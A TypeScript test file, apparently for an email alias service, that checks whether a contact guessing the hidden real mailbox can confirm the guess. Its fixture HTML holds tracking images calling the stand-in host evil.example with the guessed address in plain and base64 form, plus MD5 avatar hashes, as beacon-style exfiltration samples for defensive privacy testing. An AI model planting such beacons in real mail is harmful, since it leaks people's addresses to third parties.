// A contact that guesses: whatever it writes comes back to it as it was, so that no answer tells whether a guess was the
// mailbox (POST /v1/inbound-emails/simulate).
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { after, test } from "node:test";
import { C, D, IP_C, startMaskedSimulation } from "../support/masked-simulation.ts";

const { alias, reverse, simulate, activity, close } = await startMaskedSimulation();
after(close);

const OTHER = D.replace("anna", "annb");

/** The mail that a list with this guess makes of an answer, and the guesses of a second mail of somebody else. */
async function answerTo(guess: string) {
  const a = await alias();
  const b64 = Buffer.from(`a@x.example,${guess}`).toString("base64");
  const html = [
    `<div style="display:none">first@x.example ${guess} last@x.example</div>`,
    `<img src="https://evil.example/${b64}.gif"><img src="https://evil.example/?e=${guess}">`,
    `<img src="https://pictures.example/avatar/${md5(guess)}?s=80"><p>${md5(guess)}</p>`,
    `<p>${guess.replace("@", "&#64;")} ${guess.replace("@", " at ")} <b>${guess.slice(0, 2)}</b>${guess.slice(2)}</p>`,
  ].join("");
  const ids = ["<1@x.example>", `<${guess}>`, "<2@x.example>"];
  const asked = await simulate({
    from: C,
    to: a.full,
    head: `To: ${a.full}\r\nCc: first@x.example, ${guess}, last@x.example\r\nSubject: account of ${guess}\r\nMessage-ID: <m.${guess}>\r\nReferences: ${ids.join(" ")}\r\nContent-Type: text/html\r\n`,
    text: html,
  });
  const [forward] = asked.messages;
  const { mail } = forward;
  const people = [mail.from, ...(mail.cc ?? [])].map(({ address }: { address: string }) => address);
  const { messages } = await simulate({
    to: people,
    head: `To: ${people[0]}\r\nCc: ${people.slice(1).join(", ")}\r\nSubject: Re: ${mail.subject}\r\nIn-Reply-To: ${mail.messageId}\r\nReferences: ${mail.references} ${mail.messageId}\r\nContent-Type: text/html\r\n`,
    text: `<p>Yes. ${D}</p><blockquote>${mail.html}</blockquote>`,
  });
  const reply = messages.find(({ recipient }) => recipient === C)?.mail;
  assert.ok(reply, (await activity(a.id)).join("; "));
  const { subject, html: body, cc, inReplyTo, references } = reply;
  const seen = { subject, body, inReplyTo, references, cc: cc.map(({ address }: { address: string }) => address) };
  return { seen: JSON.stringify(seen).replaceAll(a.full, "ALIAS"), shown: mail.html as string, a };
}

test("the answer to a list with the mailbox on it is that to any other list", async () => {
  const [reported, guessed] = [await answerTo(D), await answerTo(OTHER)];
  assert.equal(
    reported.seen,
    guessed.seen
      .replace(/annb|(?<=<.b>)nb/g, (name) => name.replace("b", "a"))
      .replaceAll(b64Of(OTHER), b64Of(D))
      .replaceAll(md5(OTHER), md5(D)),
  );
  assert.ok(reported.seen.includes("Yes. ALIAS"), "the mailbox's own words stay clean");
  assert.ok(reported.seen.split(md5(D)).length === 3, "as it was sent");
  const stays = [`avatar/${md5(D)}?s=80`, `https://evil.example/?e=${D}`, `${b64Of(D)}.gif`];
  for (const link of stays) assert.ok(reported.shown.includes(link), link);
});

/** As addresses of people's pictures hold it. */
function md5(email: string): string {
  return createHash("md5").update(email).digest("hex");
}

function b64Of(guess: string): string {
  return Buffer.from(`a@x.example,${guess}`).toString("base64");
}

test("what one contact wrote of the mailbox is shown to no other", async () => {
  const { a } = await answerTo(D);
  const [other, own] = [await reverse(a.id, "other@party.example"), await reverse(a.id, D)];
  const { messages } = await simulate({ to: other, text: `> ${own}\r\n> https://evil.example/?e=${D}\r\n> ${D}` });
  assert.deepEqual([messages.length, messages[0]?.raw.includes(D)], [1, false]);
});

test("a forged author is answered as a stranger is, at the alias and at a reverse address", async () => {
  const a = await alias();
  const r = await reverse(a.id);
  for (const to of [r, a.full]) {
    const answers: string[] = [];
    for (const from of [D, OTHER]) {
      const { said, message, messages } = await simulate({ from, envelope: C, ip: IP_C, to });
      const shown = JSON.stringify([said, message, messages.length]);
      answers.push(shown);
    }
    assert.equal(answers[0], answers[1], to);
  }
});

test("a guess in a text takes none of the day's new contacts, and one among the people of a mail takes one, right or wrong", async () => {
  const saidTo = async (guess: string) => {
    const a = await alias();
    const cc = (from: number, count: number) =>
      `Cc: ${Array.from({ length: count }, (_, n) => `p${from + n}@party.example`).join(", ")}\r\n`;
    const write = async (head: string, text: string) => (await simulate({ from: C, to: a.full, head, text })).said;
    const said = [await write("", `Is it ${guess}?`)];
    for (let n = 0; n < 6; n += 1) said.push(await write(cc(n * 30, 30), "Hello"));
    said.push(await write(cc(180, 19), "These are 200 with the author."), await write(`Cc: ${guess}\r\n`, "One more"));
    return said;
  };
  const [right, wrong] = [await saidTo(D), await saidTo(OTHER)];
  assert.deepEqual(right, wrong);
  assert.deepEqual(right.slice(-2), ["250 2.0.0", "450 4.7.1"]);
});
